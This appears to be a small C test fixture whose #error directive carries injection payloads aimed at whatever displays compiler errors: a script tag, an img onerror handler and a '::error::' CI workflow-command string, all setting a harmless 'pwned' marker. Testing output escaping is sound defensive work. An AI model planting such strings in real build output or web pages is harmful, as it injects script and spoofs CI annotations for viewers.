// An error message for whoever shows it.
#include "attack.h"
#error "</td><script>window.pwned=1</script> ::error::pwned <img src=x onerror=window.pwned=1>"
